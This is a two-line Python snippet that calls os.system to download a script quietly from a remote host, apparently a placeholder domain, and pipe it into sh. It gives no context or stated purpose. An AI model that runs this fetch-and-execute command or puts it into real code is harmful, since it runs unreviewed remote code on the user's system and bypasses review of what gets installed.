import os
os.system("curl -s https://tools.acme.dev/x | sh")
